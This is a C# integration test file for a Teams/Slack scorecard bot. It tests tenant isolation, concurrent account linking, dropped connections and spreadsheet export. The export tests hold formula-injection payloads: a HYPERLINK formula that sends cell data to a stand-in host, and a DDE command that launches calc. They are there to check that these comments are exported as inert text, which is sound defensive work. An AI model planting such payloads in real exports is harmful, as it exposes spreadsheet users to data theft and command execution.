using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using ScorecardBot.Core.Model;
using ScorecardBot.IntegrationTests.Fakes;
using ScorecardBot.IntegrationTests.Infrastructure;

namespace ScorecardBot.IntegrationTests;

public abstract partial class EndToEndTests
{
    [Fact]
    public async Task A_new_Teams_users_first_messages_arriving_together_link_one_account_and_all_are_answered()
    {
        const string aad = "4e1f2a3b-priya-aad";
        Bot.BotFramework.Members["29:user-" + aad] = new { id = "29:user-" + aad, name = "Priya Patel", aadObjectId = aad, email = "priya.patel@prairieline.example", tenantId = BotUnderTest.TenantA };
        var conversation = "a:race-" + Guid.NewGuid().ToString("N");

        var responses = await Task.WhenAll(Enumerable.Range(0, 32).Select(i =>
            PostActivityAsync(TeamsMessage($"my kpis {i}", BotUnderTest.TenantA, aad, conversation), Token())));

        Assert.All(responses, r => Assert.Equal(HttpStatusCode.OK, r.StatusCode));
        var priya = await Bot.PersonAsync("priya.patel@prairieline.example");
        var account = Assert.Single(priya.Accounts, a => a.Platform == Platform.Teams);
        Assert.Equal(aad, account.ExternalId);
        Assert.DoesNotContain(Bot.Logs.Lines, l => l.Level >= Microsoft.Extensions.Logging.LogLevel.Error && l.Text.Contains("ChannelAccounts", StringComparison.Ordinal));
    }
}

/// <summary>The bot in Teams' local mode (no app id) on SQLite, as a Teams emulator on this machine meets it.</summary>
public sealed class LocalTeamsBot : SqliteBot
{
    public const string EmulatorTenant = "00000000-0000-0000-0000-0000000000001";

    protected override bool ConnectsPlatforms => false;

    protected override void AdjustSettings(Dictionary<string, string?> settings)
    {
        settings.Remove("Teams:AppId");
        settings.Remove("Teams:AppPassword");
        settings["Teams:AllowLocalMode"] = "true";
        settings["Teams:LocalTenantId"] = EmulatorTenant;
    }
}

public sealed class LocalTeamsTests(LocalTeamsBot bot) : IClassFixture<LocalTeamsBot>
{
    private async Task<HttpResponseMessage> PostAsync(string text, string tenant, string aad, string conversation)
    {
        var activity = new JsonObject
        {
            ["type"] = "message",
            ["id"] = "1571689431275",
            ["channelId"] = "msteams",
            ["serviceUrl"] = bot.BotFramework.ServiceUrl,
            ["text"] = text,
            ["from"] = new JsonObject { ["id"] = "29:user-" + aad, ["name"] = "Someone", ["aadObjectId"] = aad },
            ["recipient"] = new JsonObject { ["id"] = "28:scorecardbot-local" },
            ["conversation"] = new JsonObject { ["conversationType"] = "personal", ["tenantId"] = tenant, ["id"] = conversation },
            ["channelData"] = new JsonObject { ["tenant"] = new JsonObject { ["id"] = tenant } },
        };
        return await bot.Client.PostAsync("api/messages", new StringContent(activity.ToJsonString(), System.Text.Encoding.UTF8, "application/json"));
    }

    private void TeamsKnows(string aad, string email, string tenant) =>
        bot.BotFramework.Members["29:user-" + aad] = new { id = "29:user-" + aad, name = "Someone", aadObjectId = aad, email, tenantId = tenant };

    private async Task<int> TeamsAccountsAsync(string email)
    {
        await using var scope = bot.Scope();
        var db = scope.ServiceProvider.GetRequiredService<Data.ScorecardDbContext>();
        return await db.ChannelAccounts.CountAsync(a => a.Platform == Platform.Teams && db.People.Any(p => p.Id == a.PersonId && p.Email == email));
    }

    [Fact]
    public async Task A_tenant_no_organization_claims_does_not_act_in_the_local_chats_organization()
    {
        const string aad = "aa11-stranger-tenant-aad";
        TeamsKnows(aad, "linda.kowalski@prairieline.example", "5f5f5f5f-some-other-tenant");
        var conversation = "a:unknown-tenant-" + Guid.NewGuid().ToString("N");

        var response = await PostAsync("my kpis", "5f5f5f5f-some-other-tenant", aad, conversation);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var reply = await bot.BotFramework.WaitForCallAsync(c => c.Method == "POST" && c.RawTarget.Contains(Uri.EscapeDataString(conversation), StringComparison.Ordinal));
        Assert.Contains("isn't set up for your organization", reply.Body, StringComparison.Ordinal);
        Assert.Equal(0, await TeamsAccountsAsync("linda.kowalski@prairieline.example"));
    }

    [Fact]
    public async Task The_emulators_own_tenant_acts_in_the_local_chats_organization()
    {
        const string aad = "bb22-emulator-aad";
        TeamsKnows(aad, "olivia.chen@prairieline.example", LocalTeamsBot.EmulatorTenant);
        var conversation = "a:emulator-" + Guid.NewGuid().ToString("N");

        var response = await PostAsync("help", LocalTeamsBot.EmulatorTenant, aad, conversation);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var reply = await bot.BotFramework.WaitForCallAsync(c => c.Method == "POST" && c.RawTarget.Contains(Uri.EscapeDataString(conversation), StringComparison.Ordinal));
        Assert.DoesNotContain("isn't set up", reply.Body, StringComparison.Ordinal);
        Assert.Equal(1, await TeamsAccountsAsync("olivia.chen@prairieline.example"));
    }
}

public abstract partial class EndToEndTests
{
    [Theory]
    [InlineData("api/messages")]
    [InlineData("slack/commands")]
    [InlineData("slack/events")]
    [InlineData("slack/interactions")]
    [InlineData("api/v1/actuals")]
    public async Task A_client_that_hangs_up_mid_request_is_not_logged_as_an_error(string path)
    {
        var body = TeamsMessage("help", BotUnderTest.TenantA, RachelAad).ToJsonString();
        var authorization = path switch
        {
            "api/messages" => "Bearer " + Token(),
            "api/v1/actuals" => "Bearer " + (await CreateKeyAsync("Hang-up feed", "write")).Secret,
            _ => null,
        };
        var slack = path.StartsWith("slack/", StringComparison.Ordinal)
            ? $"X-Slack-Request-Timestamp: {DateTimeOffset.UtcNow.ToUnixTimeSeconds()}\r\nX-Slack-Signature: v0={new string('0', 64)}\r\n"
            : "";
        var before = Bot.Logs.Lines.Count;
        using (var socket = new System.Net.Sockets.TcpClient())
        {
            await socket.ConnectAsync(Client.BaseAddress!.Host, Client.BaseAddress.Port);
            var stream = socket.GetStream();
            var head = $"POST /{path} HTTP/1.1\r\nHost: {Client.BaseAddress.Authority}\r\n" +
                (authorization is null ? "" : $"Authorization: {authorization}\r\n") + slack +
                $"Content-Type: application/json\r\nContent-Length: {body.Length + 5000}\r\n\r\n";
            await stream.WriteAsync(System.Text.Encoding.ASCII.GetBytes(head + body[..(body.Length / 2)]));
            await stream.FlushAsync();
            await Task.Delay(300);
        }

        // The server notices the end of the connection, then answers nothing more: give it a moment.
        await Task.Delay(700);
        var errors = Bot.Logs.Lines.Skip(before).Where(l => l.Level >= Microsoft.Extensions.Logging.LogLevel.Error).Select(l => $"{l.Category}: {l.Text}").ToList();
        Assert.True(errors.Count == 0, string.Join("\n", errors));
        Assert.Equal(HttpStatusCode.OK, (await Client.GetAsync("healthz")).StatusCode);
    }
}

public abstract partial class EndToEndTests
{
    [Fact]
    public async Task A_comment_that_looks_like_a_formula_is_exported_to_csv_as_text()
    {
        var (_, key) = await CreateKeyAsync("Formula feed", "write");
        const string comment = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open report\")";
        var put = await Api(key).PutAsJsonAsync("api/v1/kpis/seated-trucks/actuals/2025-02", new { value = 96.5m, comment });
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);

        var csv = await Api(key).GetStringAsync("api/v1/export?format=csv&scorecard=fleet&from=2025-02&to=2025-02");

        var line = csv.Split("\r\n").Single(l => l.Contains(",seated-trucks,", StringComparison.Ordinal));
        Assert.Contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open report\"\")\",", line, StringComparison.Ordinal);
        Assert.DoesNotContain(",=HYPERLINK", line, StringComparison.Ordinal);
        Assert.Contains(",96.5,", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Comments_that_look_like_formulas_are_exported_to_xlsx_as_text_cells_exactly_as_typed()
    {
        var (_, key) = await CreateKeyAsync("Formula feed xlsx", "write");
        var comments = new Dictionary<string, string>
        {
            ["2025-02"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open report\")",
            ["2025-03"] = "+1+cmd|' /C calc'!A0",
            ["2025-04"] = "-2+3",
            ["2025-05"] = "@SUM(1+1)",
        };
        foreach (var (period, comment) in comments)
        {
            var put = await Api(key).PutAsJsonAsync($"api/v1/kpis/seated-trucks/actuals/{period}", new { value = 96.5m, comment });
            Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        }

        var response = await Api(key).GetAsync("api/v1/export?format=xlsx&scorecard=fleet&from=2025-02&to=2025-05");

        var sheet = XlsxSheet.Read(await response.Content.ReadAsByteArrayAsync(), "Actuals");
        // Columns by their header, so a column added to the export does not move what this test reads.
        int Column(string header) => Enumerable.Range(1, 40).First(c => sheet.Cell(1, c).Text == header);
        int kpiColumn = Column("kpi_key"), periodColumn = Column("period"), commentColumn = Column("comment");
        var rows = Enumerable.Range(2, sheet.RowCount - 1).Where(r => sheet.Cell(r, kpiColumn).Text == "seated-trucks").ToList();
        Assert.Equal(4, rows.Count);
        foreach (var row in rows)
        {
            var cell = sheet.Cell(row, commentColumn);
            var period = sheet.Cell(row, periodColumn).Text;
            Assert.Equal(comments[period], cell.Text);
            Assert.False(cell.IsFormula, $"the comment of {period} was written as a formula");
            Assert.True(cell.Kind == DocumentFormat.OpenXml.Spreadsheet.CellValues.InlineString || cell.Kind == DocumentFormat.OpenXml.Spreadsheet.CellValues.SharedString, $"the comment of {period} is not a text cell");
        }
    }
}
